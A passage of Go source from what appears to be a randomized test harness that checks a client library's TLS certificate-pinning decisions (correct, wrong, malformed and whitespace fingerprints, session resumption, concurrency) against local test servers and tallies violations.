			// (a malformed string is judged before any client is looked at)
			key += ":own-default-client-transport"
		}
		what += fmt.Sprintf(" [process configuration %q: %s]", w.pc.name, clientConfigText[w.pc.name])
	}
	if key != "" && !res.Spec.lowerScheme() {
		key += ":scheme-case"
		what += fmt.Sprintf(" [C2 URL %q: scheme spelled %q]", res.C2, res.Spec.Scheme)
	}
	if key != "" && res.Spec.Host != "" {
		key += ":host-name"
		what += fmt.Sprintf(" [C2 URL %q: host spelled as a name (%s), server name in the client hello %q, CONNECT requests at the harness's proxy %q]", res.C2, res.Spec.HostKind, res.SNI, res.Connects)
	}
	if id := w.ids[res.Spec.Ident]; key != "" && id.Group > 0 {
		key += ":certificate-twin"
		what += fmt.Sprintf(" [the server is the %q of certificate-twin group %d (%s); the fingerprint is the pin of the group's %q]", id.Role, id.Group, twinText, res.Spec.PinRole)
	}
	return key, what
}

func (w *world) judge0(res *callResult) (key, what string) {
	r := w.r
	e, s := res.Exp, res.Spec
	r.Eval(1)
	r.Count("calls", 1)
	if !s.lowerScheme() {
		r.Count("calls_with_uppercase_scheme", 1)
		r.Count("url_scheme:"+s.Scheme, 1)
		switch {
		case !e.Pinned:
			r.Count("unpinned_calls_with_uppercase_scheme", 1)
		case e.Expect == "accept":
			r.Count("pinned_matching_calls_with_uppercase_scheme", 1)
			if !w.ids[s.Ident].valid() {
				// the pin is the only thing that can let this call through
				r.Count("pinned_matching_calls_with_uppercase_scheme_to_servers_failing_ordinary_validation", 1)
			}
		case e.Expect == "refuse-handshake":
			r.Count("pinned_mismatching_calls_with_uppercase_scheme", 1)
			if w.ids[s.Ident].valid() {
				// the pin is the only thing that can stop this call
				r.Count("pinned_mismatching_calls_with_uppercase_scheme_to_servers_passing_ordinary_validation", 1)
			}
		default:
			r.Count("malformed_calls_with_uppercase_scheme", 1)
		}
	} else {
		r.Count("url_scheme:https", 1)
	}
	w.countHost(res)
	wsKind := whitespaceKind(s.FP)
	switch wsKind {
	case "blank":
		r.Count("whitespace_only_fingerprints", 1)
		if w.ids[s.Ident].valid() {
			// ordinary validation would let this call through: only the refusal of the string stops it
			r.Count("whitespace_only_fingerprints_to_servers_passing_ordinary_validation", 1)
		}
		if e.Expect != "refuse-outright" {
			r.Inconclusive(fmt.Sprintf("the oracle does not call the whitespace-only fingerprint %q malformed", s.FP))
		}
	case "padded":
		r.Count("whitespace_padded_fingerprints", 1)
		r.Count("whitespace_padded_fingerprints_expected_"+e.Expect, 1)
		if w.ids[s.Ident].valid() {
			r.Count("whitespace_padded_fingerprints_to_servers_passing_ordinary_validation", 1)
			if e.MatchPos < 0 {
				r.Count("whitespace_padded_mismatching_pins_to_servers_passing_ordinary_validation", 1)
			}
		}
	}
	if w.pc != nil {
		cfg := w.pc.name
		r.Count("calls_under_client_config:"+cfg, 1)
		if ownTransportConfig(cfg) {
			r.Count("calls_in_processes_with_own_default_client_transport", 1)
			switch {
			case e.Pinned && e.Expect == "accept":
				r.Count("pinned_matching_calls_in_processes_with_own_default_client_transport", 1)
			case e.Pinned && e.Expect == "refuse-handshake":
				r.Count("pinned_mismatching_calls_in_processes_with_own_default_client_transport", 1)
			case !e.Pinned && res.PinnedBefore > 0:
				r.Count("unpinned_calls_after_pinned_calls_in_processes_with_own_default_client_transport", 1)
				r.Count("unpinned_after_pinned_under:"+cfg, 1)
				if e.Expect == "accept" && res.Observed == "accepted" {
					r.Count("unpinned_valid_chain_accepted_after_pinned_calls_in_processes_with_own_default_client_transport", 1)
				}
				if e.Expect == "refuse-handshake" && res.Observed == "refused-at-handshake" {
					r.Count("unpinned_invalid_chain_refused_after_pinned_calls_in_processes_with_own_default_client_transport", 1)
				}
			}
		} else if cfg != "stock" {
			r.Count("calls_in_processes_with_other_default_client_settings", 1)
			if !e.Pinned && res.PinnedBefore > 0 {
				r.Count("unpinned_calls_after_pinned_calls_in_processes_with_other_default_client_settings", 1)
			}
		}
	}
	r.Count("spelling:"+s.Spelling, 1)
	r.Count("server_kind:"+s.Kind, 1)
	r.Count("identity_class:"+s.Class, 1)
	if s.TLS13 {
		r.Count("tls13_endpoints", 1)
	} else {
		r.Count("tls12_endpoints", 1)
	}
	if s.H2 && s.Kind == "https" {
		r.Count("h2_endpoints", 1)
	}
	if s.Kind == "raw" {
		r.Count("raw_server_connections", int64(res.Accepts))
		r.Count("handshakes_seen", int64(res.Handshakes))
	} else {
		r.Count("https_server_connections", int64(res.Accepts))
	}
	r.Count("client_hellos_seen", int64(res.ClientHellos))
	r.Count("handler_runs", int64(res.HandlerRuns))
	r.Count("tokens_echoed", int64(res.Echoed))
	if e.Pinned {
		r.Count("oracle_decoder_agreements", 1)
		pos := "absent"
		if e.MatchPos >= 0 {
			pos = strconv.Itoa(e.MatchPos)
		}
		if e.Expect != "refuse-outright" {
			r.Count(fmt.Sprintf("chain_len_%d_match_pos_%s", s.ChainLen, pos), 1)
			r.Count("match_pos_"+pos, 1)
		}
	} else {
		r.Count("unpinned_calls", 1)
		if res.PinnedBefore > 0 {
			r.Count("unpinned_calls_after_pinned_calls", 1)
		}
	}
	switch e.Expect {
	case "accept":
		r.Count("accepts_expected", 1)
	case "refuse-handshake":
		r.Count("refusals_expected", 1)
	case "refuse-outright":
		r.Count("refusals_expected", 1)
		r.Count("malformed_cases", 1)
	}
	switch res.Observed {
	case "accepted", "accepted-then-error":
		r.Count("accepts_observed", 1)
	case "refused-outright", "refused-at-handshake", "refused-after-bytes":
		r.Count("refusals_observed", 1)
		r.Count("observed_"+res.Observed, 1)
	}
	w.note(res)
	if e.Disagree {
		r.Inconclusive(fmt.Sprintf("the harness's RFC 4648 decoder and encoding/base64 disagree on %q", s.FP))
		return "", ""
	}
	if res.Observed == "watchdog" || res.Observed == "no-endpoint" {
		r.Inconclusive(fmt.Sprintf("call did not finish within %s (or its probe failed): %s(%s) against identity %d; error %q", callTimeout, s.Intent, s.Spelling, s.Ident, res.Err))
		return "", ""
	}
	after := ""
	if !e.Pinned && res.PinnedByEnd > 0 {
		after = "-after-pinned-call"
	}
	desc := fmt.Sprintf("%s(%s) fingerprint %q against a %s server presenting %d certificate(s)", s.Intent, s.Spelling, s.FP, s.Class, s.ChainLen)
	if wsKind == "blank" {
		desc = "whitespace-only " + desc
	}
	// "accepted" = the client went on past the handshake as far as it is concerned
	// (Go returned nil, or the token made the round trip); a request that reached
	// the server although Go then reported an error is refused-after-bytes.
	accepted := res.Observed == "accepted" || res.Observed == "accepted-then-error" || res.Observed == "nil-without-exchange"
	switch e.Expect {
	case "accept":
		switch {
		case res.Observed == "accepted":
			r.Count("accepts_held", 1)
			if !e.Pinned {
				r.Count("unpinned_valid_chain_accepted", 1)
			}
		case res.Observed == "accepted-then-error":
			r.Count("accepted_but_go_returned_error", 1)
			r.Inconclusive("exchange took place but Go returned an error at tear-down: " + res.Err)
		case res.Observed == "nil-without-exchange":
			r.Inconclusive("Go returned nil although the server never saw the token come back: " + desc)
		case e.AltOutright && res.Observed == "refused-outright":
			r.Count("newline_fingerprints_refused_outright", 1)
		case !e.Pinned:
			return "unpinned-valid-chain-refused" + after, "no fingerprint, certificate chains to the trusted CA and names the host of the URL, yet refused: " + res.Err
		default:
			return "pinned-match-refused", fmt.Sprintf("%s matches the certificate at position %d, yet refused (%s): %s", desc, e.MatchPos, res.Observed, res.Err)
		}
	case "refuse-handshake":
		switch {
		case accepted && !e.Pinned:
			k := "unpinned-accepted-" + strings.TrimPrefix(s.Class, "ca-")
			if s.Class == "selfsigned" {
				k = "unpinned-accepted-self-signed"
			}
			return k + after, fmt.Sprintf("no fingerprint configured, server certificate is %s, yet the request was sent (%s, handler runs %d, tokens echoed %d; pinned calls started earlier in this process: %d, by the end: %d)", s.Class, res.Observed, res.HandlerRuns, res.Echoed, res.PinnedBefore, res.PinnedByEnd)
		case accepted:
			return "pinned-mismatch-accepted", fmt.Sprintf("%s matches none of the presented keys, yet the request was sent (%s, handler runs %d, tokens echoed %d)", desc, res.Observed, res.HandlerRuns, res.Echoed)
		case res.Observed == "refused-after-bytes":
			r.Count("application_bytes_seen_on_refused", int64(res.AppBytes+res.AppByteConns))
			return "application-bytes-before-refusal", fmt.Sprintf("%s: Go returned %q but %d connection(s) carried application bytes (%d bytes)", desc, res.Err, res.AppByteConns, res.AppBytes)
		case res.Observed == "refused-outright":
			r.Count("refused_without_dialling", 1)
			r.Inconclusive("well-formed fingerprint / un-pinned call refused without any connection: " + desc + ": " + res.Err)
		default:
			r.Count("refusals_held", 1)
			r.Count("refusals_held_with_zero_application_bytes", 1)
		}
	case "refuse-outright":
		switch {
		case accepted:
			return "malformed-fingerprint-accepted", fmt.Sprintf("%s is not the base64 of 32 bytes (decoded length %d), yet the request was sent (%s)", desc, e.DecodedLen, res.Observed)
		case res.Accepts > 0:
			if res.AppByteConns > 0 {
				r.Count("application_bytes_seen_on_refused", int64(res.AppBytes+res.AppByteConns))
			}
			return "malformed-fingerprint-dialled", fmt.Sprintf("%s is not the base64 of 32 bytes (decoded length %d) but the server saw %d connection(s), %d client hello(s) before Go returned %q", desc, e.DecodedLen, res.Accepts, res.ClientHellos, res.Err)
		default:
			r.Count("refusals_held", 1)
			r.Count("malformed_refused_with_zero_connections", 1)
			if wsKind == "blank" {
				r.Count("whitespace_only_fingerprints_refused_with_zero_connections", 1)
			}
		}
	}
	return "", ""
}

// perKey bounds the witnesses one process writes out for one defect class;
// further occurrences are counted (violations_beyond_witness_cap:<key>).
const perKey = 3

func (w *world) capped(key string) bool {
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.seen == nil {
		w.seen = map[string]int{}
	}
	w.seen[key]++
	if w.seen[key] > perKey {
		w.r.Count("violations_beyond_witness_cap:"+key, 1)
		return true
	}
	return false
}

func (w *world) report(engine string, index int, res *callResult, ctxInfo any) {
	if len(res.SnapDiff) > 0 && w.capped("default-client-mutated") {
		res.SnapDiff = nil
	}
	if res.Key != "" && w.capped(res.Key) {
		res.Key = ""
	}
	if len(res.SnapDiff) > 0 {
		w.r.Violate(engine, index, "default-client-mutated", fmt.Sprintf("the process-wide HTTP client differs after a call (%s/%s): %s", res.Spec.Intent, res.Spec.Spelling, strings.Join(res.SnapDiff, "; ")),
			map[string]any{"call": res, "context": ctxInfo})
	}
	if res.Key != "" {
		w.r.Violate(engine, index, res.Key, res.What, map[string]any{"call": res, "context": ctxInfo, "process_history": w.history()})
	}
}

// ---- generators ----------------------------------------------------------------

func (w *world) pickIdentity(rng *mrand.Rand) *identity {
	switch x := rng.IntN(10); {
	case x < 6:
		return w.self[rng.IntN(len(w.self))]
	case x < 8:
		return w.cav["ca-valid"][rng.IntN(len(w.cav["ca-valid"]))]
	default:
		cl := []string{"ca-wrongsan", "ca-expired", "ca-untrusted"}[rng.IntN(3)]
		return w.cav[cl][rng.IntN(len(w.cav[cl]))]
	}
}

func (w *world) mkSpec(id *identity, intent, class string, rng *mrand.Rand) (callSpec, bool) {
	fp, ok := spell(class, id, w.ids, rng)
	if !ok {
		return callSpec{}, false
	}
	kind := "raw"
	if rng.IntN(2) == 0 {
		kind = "https"
	}
	s := callSpec{Ident: id.ID, Class: id.Class, ChainLen: len(id.Chain), Kind: kind, H2: rng.IntN(3) != 0, TLS13: rng.IntN(3) != 0,
		Intent: intent, Spelling: class, FP: fp, Scheme: "https"}
	if rng.IntN(4) == 0 { // one call in four spells the scheme of its URL in another case
		s.Scheme = schemeVariants[rng.IntN(len(schemeVariants))]
	}
	return s, true
}

func intentOf(class string) string {
	for _, c := range spellPaddedRight {
		if c == class {
			return "right"
		}
	}
	for _, c := range spellPaddedWrong {
		if c == class {
			return "wrong"
		}
	}
	for _, c := range spellRight {
		if c == class {
			return "right"
		}
	}
	for _, c := range spellWrong {
		if c == class {
			return "wrong"
		}
	}
	if class == "unpinned" {
		return "unpinned"
	}
	return "malformed"
}

// genCall draws one call of a sequence / concurrent set.
func (w *world) genCall(rng *mrand.Rand) callSpec {
	for {
		id := w.pickIdentity(rng)
		var class string
		x := rng.IntN(100)
		switch {
		case x < 30:
			class = spellRight[rng.IntN(len(spellRight))]
		case x < 50:
			class = spellWrong[rng.IntN(len(spellWrong))]
		case x < 63:
			class = spellMalformed[rng.IntN(len(spellMalformed))]
		case x < 67:
			class = spellBlank[rng.IntN(len(spellBlank))]
		case x < 70:
			class = spellWhitespace[len(spellBlank)+rng.IntN(len(spellWhitespace)-len(spellBlank))]
		default:
			class = "unpinned"
		}
		if x >= 63 && x < 70 && rng.IntN(2) == 0 {
			// white space: half of them against servers ordinary validation lets through,
			// where "taken for no fingerprint" shows as an exchange
			id = w.cav["ca-valid"][rng.IntN(len(w.cav["ca-valid"]))]
		}
		if s, ok := w.mkSpec(id, intentOf(class), class, rng); ok {
			return s
		}
	}
}

func shape(s callSpec, e expectation) string {
	sh := fmt.Sprintf("%s/%s/len%d/pos%d/%s/h2=%v/tls13=%v/%s/scheme=%s", s.Spelling, s.Class, s.ChainLen, e.MatchPos, s.Kind, s.H2 && s.Kind == "https", s.TLS13, e.Expect, s.Scheme)
	if s.HostKind != "" {
		sh += "/host=" + s.HostKind
	}
	if s.Role != "" {
		sh += "/twin=" + s.Role + "<-" + s.PinRole
	}
	if s.LongKind != "" {
		sh += "/long=" + s.LongKind
	}
	return sh
}

// ---- engines (child side) --------------------------------------------------------

func (w *world) runSeq(engine string, index int, specs []callSpec, sample bool) {
	var results []*callResult
	var sig []string
	for _, s := range specs {
		res := w.exec(s, true)
		res.Key, res.What = w.judge(res)
		results = append(results, res)
		sig = append(sig, shape(s, res.Exp))
		w.r.Distinct("call|" + shape(s, res.Exp))
		w.report(engine, index, res, map[string]any{"position_in_sequence": len(results) - 1, "sequence": brief(specs)})
	}
	if len(specs) > 1 {
		w.r.Eval(1) // the sequence as a history, besides its calls
		w.r.Distinct(engine + "|" + strings.Join(sig, ","))
	}
	if sample {
		w.r.Sample(engine, map[string]any{"index": index, "calls": sampleOf(results)})
	}
}

// runSame: several calls of one process against ONE server (same address,
// same key), so that anything a connection may leave behind for the next one
// to that server - a TLS session to resume, a pooled connection - is in play:
// right pin then wrong pin, wrong then right, malformed and un-pinned in between.
func (w *world) runSame(index int, sample bool) {
	rng := w.r.Rng("same", index)
	id := w.self[rng.IntN(len(w.self))]
	kind := []string{"raw", "https"}[rng.IntN(2)]
	h2, tls13 := rng.IntN(2) == 0, rng.IntN(3) != 0
	ep, err := startEndpoint(id, kind, h2, tls13)
	if err != nil {
		w.r.Inconclusive("cannot start an endpoint: " + err.Error())
		return
	}
	defer ep.close()
	patterns := [][]string{
		{"right", "wrong"}, {"right", "wrong", "right"}, {"right", "right", "wrong"}, {"wrong", "right", "wrong"},
		{"right", "unpinned"}, {"right", "malformed", "wrong"}, {"right", "wrong", "wrong", "unpinned", "right"},
	}
	pat := patterns[index%len(patterns)]
	var results []*callResult
	var specs []callSpec
	var sig []string
	pinnedAccepted := 0
	for _, intent := range pat {
		var class string
		switch intent {
		case "right":
			class = []string{"exact", "prefixed"}[rng.IntN(2)]
		case "wrong":
			class = spellWrong[rng.IntN(len(spellWrong))]
		case "malformed":
			class = spellMalformed[rng.IntN(len(spellMalformed))]
		default:
			class = "unpinned"
		}
		spec, ok := w.mkSpec(id, intent, class, rng)
		if !ok {
			continue
		}
		spec.Kind, spec.H2, spec.TLS13 = kind, h2, tls13
		specs = append(specs, spec)
		res := w.execOn(spec, true, ep)
		res.Key, res.What = w.judge(res)
		if res.Key != "" {
			res.Key += ":same-server-sequence"
			if w.cache != nil {
				res.Key += ":process-session-cache"
				res.What += " [same server as earlier calls of this sequence; the process has set a ClientSessionCache on http.DefaultTransport.TLSClientConfig]"
			}
		}
		if w.cache != nil {
			w.r.Count("same_server_calls_with_process_session_cache", 1)
			if res.Exp.Pinned && res.Exp.Expect == "refuse-handshake" && pinnedAccepted > 0 {
				// there is a session of this very server a careless client could resume
				w.r.Count("mismatching_pins_after_an_accepted_pinned_call_to_the_same_server_with_process_session_cache", 1)
			}
		}
		if res.Exp.Pinned && res.Exp.Expect == "accept" && res.Observed == "accepted" {
			pinnedAccepted++
		}
		results = append(results, res)
		sig = append(sig, shape(spec, res.Exp))
		w.r.Distinct("call|" + shape(spec, res.Exp))
		w.report("same", index, res, map[string]any{"position_in_sequence": len(results) - 1, "sequence": brief(specs), "same_server": true, "process_session_cache": w.cache != nil})
		w.r.Count("same_server_calls", 1)
	}
	// positive control: this server does let a later connection resume a session
	switch {
	case !ep.resumeControl():
		w.r.Count("same_server_resumption_controls_failed", 1)
	case tls13:
		w.r.Count("same_servers_shown_to_resume_tls13_sessions", 1)
	default:
		w.r.Count("same_servers_shown_to_resume_tls12_sessions", 1)
	}
	w.r.Eval(1)
	if w.cache != nil {
		w.r.Count("same_server_sequences_with_process_session_cache", 1)
		sig = append(sig, "process-session-cache")
	}
	w.r.Distinct("same|" + strings.Join(sig, ","))
	if sample {
		w.r.Sample("same", map[string]any{"index": index, "process_session_cache": w.cache != nil, "calls": sampleOf(results)})
	}
}

func brief(specs []callSpec) []string {
	var out []string
	for _, s := range specs {
		b := fmt.Sprintf("%s(%s)->%s://id%d/%s/%s", s.Intent, s.Spelling, s.Scheme, s.Ident, s.Class, s.Kind)
		if s.Host != "" {
			b += " host=" + s.Host
		}
		if s.Role != "" {
			b += " twin-role=" + s.Role
		}
		out = append(out, b)
	}
	return out
}

func sampleOf(rs []*callResult) []map[string]any {
	var out []map[string]any
	for _, x := range rs {
		out = append(out, map[string]any{"server": fmt.Sprintf("identity %d (%s, chain of %d) %s h2=%v tls13=%v", x.Spec.Ident, x.Spec.Class, x.Spec.ChainLen, x.Spec.Kind, x.Spec.H2 && x.Spec.Kind == "https", x.Spec.TLS13),
			"spelling": x.Spec.Spelling, "fingerprint": x.Spec.FP, "c2_url": x.C2, "expected": x.Exp.Expect, "match_pos": x.Exp.MatchPos, "observed": x.Observed, "go_error": x.Err,
			"tcp_accepts": x.Accepts, "application_bytes": x.AppBytes, "handler_runs": x.HandlerRuns, "tokens_echoed": x.Echoed, "default_client_diff": x.SnapDiff})
	}
	return out
}

func (w *world) runConc(engine string, index int, specs []callSpec, sample bool) {
	r := w.r
	before := w.takeSnap()
	results := make([]*callResult, len(specs))
	start := make(chan struct{})
	var wg sync.WaitGroup
	for i := range specs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			<-start
			results[i] = w.exec(specs[i], false)
		}()
	}
	close(start)
	wg.Wait()
	w.countSnap(before)
	diff := snapDiff(before, w.takeSnap())
	var sig []string
	for _, s := range specs {
		sig = append(sig, shape(s, oracleCall(w.ids[s.Ident], s)))
	}
	sort.Strings(sig)
	r.Eval(1) // the set as a schedule, besides its calls
	r.Distinct(engine + "|" + strings.Join(sig, ","))
	for i, res := range results {
		res.Key, res.What = w.judge(res)
		r.Distinct("call|" + shape(res.Spec, res.Exp))
		if i == 0 {
			res.SnapDiff = diff // reported once per set
		}
		var solo *callResult
		if res.Key != "" {
			// the same call once more, alone: does the decision depend on company?
			solo = w.exec(res.Spec, true)
			solo.Key, solo.What = w.judge(solo)
			r.Count("solo_reruns", 1)
			if solo.Key == "" && solo.Observed != "watchdog" {
				res.What = "decision differs from the same call made alone in the same process: " + res.What + " [was " + res.Key + "]"
				res.Key = "decision-changed-by-concurrency"
			}
			if len(solo.SnapDiff) > 0 {
				w.report(engine, index, &callResult{Spec: solo.Spec, Exp: solo.Exp, SnapDiff: solo.SnapDiff}, "solo re-run")
			}
		}
		w.report(engine, index, res, map[string]any{"concurrent_set": brief(specs), "position": i, "solo_rerun": solo})
	}
	if sample {
		r.Sample(engine, map[string]any{"index": index, "concurrent_calls": sampleOf(results), "default_client_diff_over_the_set": diff})
	}
}

// genSet draws the calls of sequence / concurrent set number index.
func (w *world) genSet(engine string, index, lo, hi int) []callSpec {
	rng := w.r.Rng(engine, index)
	n := lo + rng.IntN(hi-lo+1)
	specs := make([]callSpec, n)
	for i := range specs {
		specs[i] = w.genCall(rng)
	}
	return specs
}

// singles: the (key × spelling) matrix for one key, in a PRNG order.
func (w *world) singles(k int) {
	rng := w.r.Rng("single", k)
	id := w.self[k%len(w.self)]
	order := rng.Perm(len(spellAll))
	for _, si := range order {
		class := spellAll[si]
		s, ok := w.mkSpec(id, intentOf(class), class, rng)
		if !ok {
			continue
		}
		if si%2 == 0 { // both server kinds over the matrix, independent of the PRNG
			s.Kind = map[bool]string{true: "raw", false: "https"}[k%2 == 0]
		} else {
			s.Kind = map[bool]string{true: "https", false: "raw"}[k%2 == 0]
		}
		w.runSeq("single", k*len(spellAll)+si, []callSpec{s}, k == 0 && (class == "exact" || class == "double-prefix"))
	}
	w.r.Count("single_keys", 1)
}

// caScript: ordinary validation, positive and negative, before and after
// pinned calls and around a concurrent set, in one process.
func (w *world) caScript(j int) {
	r := w.r
	rng := r.Rng("ca", j)
	pick := func(class string) *identity {
		if class == "selfsigned" {
			return w.self[rng.IntN(len(w.self))]
		}
		return w.cav[class][rng.IntN(len(w.cav[class]))]
	}
	mk := func(class, spelling string) callSpec {
		for {
			if s, ok := w.mkSpec(pick(class), intentOf(spelling), spelling, rng); ok {
				return s
			}
		}
	}
	unpinnedRound := func() []callSpec {
		return []callSpec{mk("ca-valid", "unpinned"), mk("selfsigned", "unpinned"), mk("ca-wrongsan", "unpinned"), mk("ca-expired", "unpinned"), mk("ca-untrusted", "unpinned"), mk("ca-valid", "unpinned")}
	}
	var script []callSpec
	script = append(script, unpinnedRound()...)
	script = append(script, mk("selfsigned", "exact"), mk("ca-valid", "prefixed"), mk("selfsigned", "other-server"), mk("ca-valid", "bitflip-hi"), mk("selfsigned", "len31"))
	// the same with the scheme of the URL in another case, whatever the PRNG drew above:
	// the pin alone lets the first through, the pin alone stops the second
	up := func(s callSpec) callSpec { s.Scheme = schemeVariants[rng.IntN(len(schemeVariants))]; return s }
	script = append(script, up(mk("selfsigned", "exact")), up(mk("ca-valid", "other-server")), up(mk("ca-valid", "unpinned")), up(mk("selfsigned", "unpinned")), up(mk("selfsigned", "garbage")))
	// white space for a fingerprint, against servers ordinary validation lets through
	// (and one that it does not): three whitespace-only strings and three padded pins per script
	for i, p := range rng.Perm(len(spellBlank))[:3] {
		cl := "ca-valid"
		if i == 2 && j%2 == 1 {
			cl = "selfsigned"
		}
		script = append(script, mk(cl, spellBlank[p]))
	}
	padded := spellWhitespace[len(spellBlank):]
	for _, p := range rng.Perm(len(padded))[:3] {
		script = append(script, mk("ca-valid", padded[p]))
	}
	script = append(script, unpinnedRound()...)
	n0 := r.Counter("calls")
	w.runSeq("ca", j, script, j == 0)
	conc := []callSpec{mk("ca-valid", "unpinned"), mk("selfsigned", "exact"), mk("selfsigned", "unpinned"), mk("ca-valid", "exact"), mk("ca-expired", "unpinned"), mk("selfsigned", "zero")}
	w.runConc("ca", j, conc, false)
	w.runSeq("ca", j, unpinnedRound(), false)
	r.Count("ca_child_calls", r.Counter("calls")-n0)
	r.Count("ca_scripts", 1)
}

// observations are recorded, not judged: they lie outside the quantifier of
// the statement (which ranges over keys, spellings, chains and histories of
// https calls) but are what a reader of the statement would ask next.
func (w *world) observations(j int) {
	r := w.r
	rng := r.Rng("observe", j)
	run := func(name string, id *identity, class, kind string) *callResult {
		s, ok := w.mkSpec(id, "right", class, rng)
		if !ok {
			return nil
		}
		s.Kind = kind
		res := w.exec(s, true)
		r.Eval(1)
		r.Count("observation_calls", 1)
		w.note(res)
		r.Count("observation:"+name+":"+res.Observed, 1)
		w.report("ca", j, &callResult{Spec: res.Spec, Exp: res.Exp, SnapDiff: res.SnapDiff}, "observation "+name)
		if j == 0 {
			r.Sample("observation", map[string]any{"what": name, "calls": sampleOf([]*callResult{res})})
		}
		return res
	}
	// a fingerprint is configured but the URL says http://
	run("fingerprint_with_plain_http_url", w.self[rng.IntN(len(w.self))], "exact", "plain")
	// the pinned certificate comes after one whose key type crypto/x509 cannot marshal
	if ex := w.cav["exotic-extra"]; len(ex) > 0 {
		run("exotic_chain_pin_of_leaf", ex[0], "exact", "raw")
		run("exotic_chain_pin_of_cert_after_unknown_key_type", ex[0], "pos2", "raw")
		run("exotic_chain_pin_of_unknown_key_type_cert", ex[0], "pos1", "raw")
	}
}

// Child runs one batch in a process of its own.
func Child(args []string) int {
	r, dump, rest := mon.ChildRun(args, Level)
	if len(rest) < 4 {
		fmt.Fprintln(os.Stderr, "c13 child: engine start count idfile")
		return 2
	}
	engine := rest[0]
	start, _ := strconv.Atoi(rest[1])
	count, _ := strconv.Atoi(rest[2])
	w, err := loadWorld(r, rest[3])
	if err != nil {
		r.Inconclusive("child cannot load identities: " + err.Error())
		r.DumpChild(dump)
		return 2
	}
	if os.Getenv("SSL_CERT_FILE") == "" {
		r.Inconclusive("child started without SSL_CERT_FILE")
	}
	// net/http configures HTTP/2 on DefaultTransport lazily on first use (also
	// from Clone), which fills in TLSClientConfig/TLSNextProto; have that done
	// before the first snapshot so that it is not blamed on the library.
	// Processes started with "session-cache" are configured first, like an
	// application that wants its own requests to resume TLS sessions.
	if len(rest) > 4 && rest[4] == "session-cache" {
		if !w.useProcessSessionCache() {
			r.Inconclusive("child cannot give http.DefaultTransport a session cache (TLSClientConfig already set)")
		}
	}
	if t, ok := http.DefaultTransport.(*http.Transport); ok {
		t.Clone()
		if w.cache != nil {
			c := t.TLSClientConfig
			if c == nil || c.ClientSessionCache != tls.ClientSessionCache(w.cache) || c.InsecureSkipVerify || c.VerifyConnection != nil || c.RootCAs != nil {
				r.Inconclusive("the process-wide TLS configuration is not the one the harness has just set: " + tlsSummary(c))
			}
			r.Count("child_processes_with_process_session_cache", 1)
		}
	}
	cfgName := "stock"
	if len(rest) > 5 && rest[5] != "" {
		cfgName = rest[5]
	}
	if w.pc, err = installClientConfig(cfgName); err != nil {
		r.Inconclusive("child cannot configure the process-wide client as " + cfgName + ": " + err.Error())
		r.DumpChild(dump)
		return 2
	}
	r.Count("child_processes_with_client_config:"+w.pc.name, 1)
	if ownTransportConfig(w.pc.name) {
		r.Count("child_processes_with_own_default_client_transport", 1)
	}
	if err := snapshotControl(w.pc.transport); err != nil {
		r.Inconclusive("snapshot monitor failed its positive control: " + err.Error())
	} else {
		r.Count("snapshot_monitor_controls_passed", 1)
	}
	if err := ownSocketControl(8); err != nil {
		r.Inconclusive("the own-socket test of the listeners failed its control: " + err.Error())
	} else {
		r.Count("own_socket_controls_passed", 1)
	}
	if engine == "twin" {
		w.verifyTwins()
	}
	if engine == "long" {
		if err := w.loadLong(longFile(rest[3])); err != nil {
			r.Inconclusive("child cannot load the long-chain identities: " + err.Error())
			r.DumpChild(dump)
			return 2
		}
	}
	if engine == "host" {
		// before the first request of this process: net/http reads the environment once
		if err := w.useConnectProxy(); err != nil {
			r.Inconclusive("child cannot start its CONNECT proxy: " + err.Error())
			r.DumpChild(dump)
			return 2
		}
	}
	if engine == "cli" {
		w.runCLI(start, count)
		count = 0
	}
	for i := start; i < start+count; i++ {
		switch engine {
		case "single":
			w.singles(i)
		case "seq":
			w.runSeq("seq", i, w.genSet("seq", i, 2, 6), i < 2)
			r.Count("sequences", 1)
		case "conc":
			w.runConc("conc", i, w.genSet("conc", i, 2, 8), i < 2)
			r.Count("concurrent_sets", 1)
		case "same":
			w.runSame(i, i < 2)
			r.Count("same_server_sequences", 1)
		case "ca":
			w.caScript(i)
			w.observations(i)
		case "twin":
			w.runTwin(i, i < 2)
			r.Count("twin_sequences", 1)
		case "host":
			w.runHost(i, i < 2)
			r.Count("host_sequences", 1)
		case "long":
			w.runLong(i, i < 2)
			r.Count("long_chain_sequences", 1)
		}
	}
	if w.proxy != nil {
		w.proxy.finish(r)
	}
	if !w.pc.inPlace() {
		// every single replacement has been reported by the snapshots already
		r.Count("client_config_not_in_place_at_process_end", 1)
	}
	if w.pc.wrapper != nil {
		r.Count("wrapper_round_trips", w.pc.wrapper.n.Load())
	}
	if w.pc.name == "own-proxy" {
		r.Count("own_proxy_func_consultations", w.pc.proxyAsks.Load())
	}
	if w.cache != nil {
		// on the unchanged library only un-pinned calls (which use the process-wide
		// transport as it is) ever look at this cache, and nothing is stored: their
		// servers are self-signed
		r.Count("process_session_cache_lookups", w.cache.gets.Load())
		r.Count("process_session_cache_hits", w.cache.hits.Load())
		r.Count("process_session_cache_stores", w.cache.stores.Load())
	}
	r.Count("connections_from_other_processes_ignored_by_the_listeners", foreignConns.Load())
	r.Count("waits_for_a_free_listener_port", listenRetries.Load())
	if err := r.DumpChild(dump); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	return 0
}

func loadWorld(r *mon.Run, path string) (*world, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var f idFile
	if err := json.Unmarshal(b, &f); err != nil {
		return nil, err
	}
	w := &world{r: r, ids: f.IDs, cav: map[string][]*identity{}, groups: map[int]map[string]*identity{}, shook: map[int]int{}}
	for _, id := range w.ids {
		if err := id.load(); err != nil {
			return nil, err
		}
		if id.Group > 0 {
			if w.groups[id.Group] == nil {
				w.groups[id.Group] = map[string]*identity{}
				w.gorder = append(w.gorder, id.Group)
			}
			w.groups[id.Group][id.Role] = id
		} else if id.Class == "selfsigned" {
			w.self = append(w.self, id)
		} else {
			w.cav[id.Class] = append(w.cav[id.Class], id)
		}
	}
	return w, nil
}

// ---- parent --------------------------------------------------------------------

type batch struct {
	engine       string
	start, count int
	opt          string // "session-cache": the process gives http.DefaultTransport a TLS client session cache first
	cfg          string // what the process puts on http.DefaultClient first (clientConfigs)
}

func Run(r *mon.Run) {
